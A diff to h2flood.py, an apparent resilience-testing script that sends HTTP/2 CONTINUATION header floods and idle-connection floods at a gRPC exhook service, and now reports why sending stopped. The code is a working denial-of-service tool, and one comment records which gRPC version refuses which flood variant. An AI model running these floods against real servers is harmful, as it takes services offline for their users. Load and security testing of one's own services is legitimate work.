@@ -6,7 +6,7 @@ measuring what they make exhookd hold. Standard library only.
       The client preface and SETTINGS, a HEADERS frame without END_HEADERS
       for stream 1, then CONTINUATION frames full of complete header fields
       until MBYTES megabytes are sent, the server closes, or SECONDS pass.
-      Prints the bytes sent.
+      Prints the bytes sent and why it stopped: "done", "closed" or "timeout".
   h2flood.py idle HOST PORT CONNECTIONS ROUNDS HOLD_SECONDS
       ROUNDS times: open CONNECTIONS connections that send the preface and
       SETTINGS and nothing else, keep them HOLD_SECONDS, close them. Prints
@@ -46,28 +46,29 @@ def literal(name, value):
     return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
 
 
-def continuation(host, port, mbytes, seconds, split):
-    if split:
-        # One field whose value never ends: the server must keep every byte.
-        start = b"\x00" + hpack_int(7, 7) + b"x-flood" + hpack_int(1 << 40, 7)
-        payload = b"v" * MAX_FRAME
-    else:
-        # Complete fields, so that every frame adds metadata the server must
-        # keep or refuse, and each frame ends on a field boundary.
-        field = literal(b"x", b"")
-        payload = field * (MAX_FRAME // len(field))
-        start = literal(b":path", b"/emqx.exhook.v3.HookProvider/OnClientAuthenticate")
+def continuation(host, port, mbytes, seconds):
+    # Small complete fields: every frame adds thousands of header fields the
+    # server must keep or refuse, each costing it far more than its 4 bytes.
+    # (One field whose length never ends is refused by gRPC 1.51 after a few
+    # MB; these are not.)
+    field = literal(b"x", b"")
+    payload = field * (MAX_FRAME // len(field))
+    start = literal(b":path", b"/emqx.exhook.v3.HookProvider/OnClientAuthenticate")
     limit, deadline, sent = mbytes * 1024 * 1024, time.monotonic() + seconds, 0
     with socket.create_connection((host, port), timeout=5) as s:
         s.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, start))
         chunk = frame(CONTINUATION, 0, 1, payload) * 64
+        why = "done"
         try:
-            while sent < limit and time.monotonic() < deadline:
+            while sent < limit:
+                if time.monotonic() >= deadline:
+                    why = "timeout"
+                    break
                 s.sendall(chunk)
                 sent += len(chunk)
         except OSError:
-            pass  # the server closed the connection: it refused the flood
-    print(sent)
+            why = "closed"  # the server refused the flood
+    print(sent, why)
 
 
 def idle(host, port, connections, rounds, hold):
@@ -102,9 +103,9 @@ def idle(host, port, connections, rounds, hold):
 
 def main(argv):
     try:
-        if argv[1] in ("continuation", "split") and len(argv) in (5, 6):
+        if argv[1] == "continuation" and len(argv) in (5, 6):
             seconds = float(argv[5]) if len(argv) == 6 else 60
-            continuation(argv[2], int(argv[3]), int(argv[4]), seconds, argv[1] == "split")
+            continuation(argv[2], int(argv[3]), int(argv[4]), seconds)
             return 0
         if argv[1] == "idle" and len(argv) == 7:
             idle(argv[2], int(argv[3]), int(argv[4]), int(argv[5]), float(argv[6]))
